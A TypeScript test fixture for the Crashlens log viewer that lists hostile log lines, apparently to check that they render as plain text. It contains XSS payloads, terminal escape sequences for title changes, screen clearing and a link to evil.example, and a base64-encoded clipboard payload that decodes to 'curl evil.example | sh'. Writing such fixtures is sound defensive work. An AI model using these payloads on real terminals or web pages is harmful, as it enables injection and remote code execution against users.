// Log lines an attacker could plant on a node (a pod's output ends up in the journal and in
// /var/log/messages), and what each must NOT be able to do once Crashlens shows it.
const ESC = '\x1b';
const BEL = '\x07';

export interface HostileLine { name: string; text: string; /** a piece of the line that must appear as plain text */ marker: string }

export const HOSTILE_LINES: HostileLine[] = [
  { name: 'html', text: 'Mar 14 11:58:01 hostile-node app[4242]: login failed for user <img src=x onerror=alert(1)> from 10.0.0.9', marker: '<img src=x onerror=alert(1)>' },
  { name: 'script', text: 'Mar 14 11:58:02 hostile-node app[4242]: payload </script><script>alert(2)</script> end', marker: '<script>alert(2)</script>' },
  { name: 'osc0-title', text: `Mar 14 11:58:03 hostile-node app[4242]: title ${ESC}]0;PWNED-TITLE${BEL} changed`, marker: 'changed' },
  { name: 'osc52-clipboard', text: `Mar 14 11:58:04 hostile-node app[4242]: clip ${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==${BEL} copied`, marker: 'copied' },
  { name: 'osc8-link', text: `Mar 14 11:58:05 hostile-node app[4242]: see ${ESC}]8;;http://evil.example/x${ESC}\\click-me${ESC}]8;;${ESC}\\ now`, marker: 'click-me' },
  { name: 'csi-clear', text: `Mar 14 11:58:06 hostile-node app[4242]: wipe ${ESC}[2J${ESC}[H screen cleared`, marker: 'screen cleared' },
  { name: 'oom', text: 'Mar 14 11:59:30 hostile-node kernel: Out of memory: Killed process 4242 (app) total-vm:1048576kB, anon-rss:524288kB, file-rss:0kB, shmem-rss:0kB, UID:0 pgtables:2048kB oom_score_adj:0', marker: 'Killed process 4242' },
];
